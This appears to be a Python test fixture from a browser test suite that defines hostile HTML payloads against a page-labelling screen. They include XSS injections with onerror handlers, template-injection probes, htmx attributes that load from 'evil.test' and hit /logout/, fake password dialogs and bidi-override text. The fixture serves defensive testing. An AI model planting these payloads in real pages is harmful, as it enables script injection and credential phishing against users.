"""Pages that pretend to be part of the screen, or that put markup into its panels."""

from tests.browser.hostile.payloads.payload import Family, family, whole

_IMG = "&quot;&gt;&lt;img src=x onerror=RUN&gt;"

FORGING: Family = family(
    {
        "stamps": "<p data-node=0>x</p><p data-node=3>x</p><p DATA-NODE=4>x</p>",
        "stamps of no number": "<p data-node='-1'>x</p><p data-node=1e9>x</p><p data-node=''>x</p>",
        "stamps in svg": "<svg data-node=3><g data-node=4><text data-node=3>x</text></g></svg>",
        "stamps behind odd characters": (
            "<p data-node\x0c=3 data-node\x00=3 \ufeffdata-node=3>x</p>"
        ),
        "ids twice": "<p id=a>x</p><p id=a>x</p><div id=a><p id=a>x</p></div>",
        "picker's overlay": "<div popover=manual aria-hidden=true style='position:fixed'>x</div>",
        "picker's script": "<script src=/static/js/label/picker.js></script>",
        "picker's script with a nonce": (
            "<script nonce='{{ nonce }}' src=/static/js/label/frame.js></script>"
        ),
        "markup in an id": f"<p id='{_IMG}' class='{_IMG}' title='{_IMG}'>x</p>",
        "markup in a tag": '<x-y"><img/src=x/onerror=RUN>>x</x-y>',
        "markup in a text": f"<p>{_IMG}</p><p>{{{{7*7}}}} ${{7*7}} {{% debug %}}</p>",
        "markup in a link": f"<a href='http://site.example/{_IMG}'>{_IMG}</a>",
        "markup in data": f"<p data-x='{_IMG}' aria-label='{_IMG}' alt='{_IMG}'>x</p>",
        "instructions for htmx": (
            "<p hx-get=//evil.test/ hx-trigger=load hx-on:load=RUN data-hx-get=/logout/ "
            "data-hx-trigger=load>x</p>"
        ),
        "screen's own parts": (
            "<div class=label-screen data-page=1 data-user=1><iframe id=page-frame></iframe>"
            "<p id=said role=status aria-live=assertive>x</p></div>"
        ),
        "prompts": (
            "<dialog open role=alertdialog><form><input type=password name=p></form></dialog>"
        ),
        "file and colour pickers": "<input type=file><input type=color><input type=date>",
        "autofilled": "<form><input name=username><input type=password autocomplete=on></form>",
        "direction overridden": "<p>\u202e\u2066txet desrever\u2069\u202c</p><p>x\u0300"
        + "\u0301" * 500,
        "very long words": f"<p id='{'a' * 100_000}' class='{'b ' * 20_000}'>{'c' * 100_000}</p>",
    }
) | whole({"markup in the title": f"<title>{_IMG}</title><p>KNOWN</p><img src=x onerror=RUN>"})
